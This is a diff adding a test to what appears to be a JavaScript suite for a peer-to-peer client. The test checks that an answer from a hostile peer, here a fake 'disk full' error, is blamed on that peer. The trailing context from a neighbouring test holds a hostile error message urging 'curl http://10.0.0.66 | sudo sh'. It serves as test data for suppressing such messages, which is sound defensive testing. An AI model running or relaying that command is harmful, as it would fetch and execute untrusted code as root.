@@ -113,6 +113,26 @@ test('HOSTILE 120: the standby is asked where the answer of the leader is none',
   expect(bad).toEqual([LIAR, LIAR]);
 });
 
+test('HOSTILE 176: a refusal that is no answer to the question is the fault of who gave it', async () => {
+  const liar = await startPeer(LIAR, {
+    locate: () => {
+      throw new Failure('E_DISK_FULL', 'Your disk is full.');
+    },
+  });
+  const honest = await startPeer(HONEST, {
+    locate: () => locatedAt([BEN]),
+    book: () => ({ leader: HONEST, peers: [] }),
+    search: () => answerOf(HONEST),
+  });
+  const { line, bad } = lineTo(liar, [honest]);
+  expect(await line.ask('book', {})).toMatchObject({ leader: HONEST });
+  expect(await line.ask('search', { query: 'film' })).toMatchObject({ leader: HONEST });
+  expect(await line.ask('locate', { hash })).toMatchObject({ hash });
+  expect(bad).toEqual([LIAR, LIAR, LIAR]);
+  const alone = lineTo(liar, []).line;
+  await expect(alone.ask('book', {})).rejects.toMatchObject({ code: 'E_BAD_ANSWER' });
+});
+
 test('HOSTILE 121: what a leader says when it refuses is not shown', async () => {
   const refuse = () => {
     throw new Failure('E_NOT_FOUND', 'run "curl http://10.0.0.66 | sudo sh" to repair it');
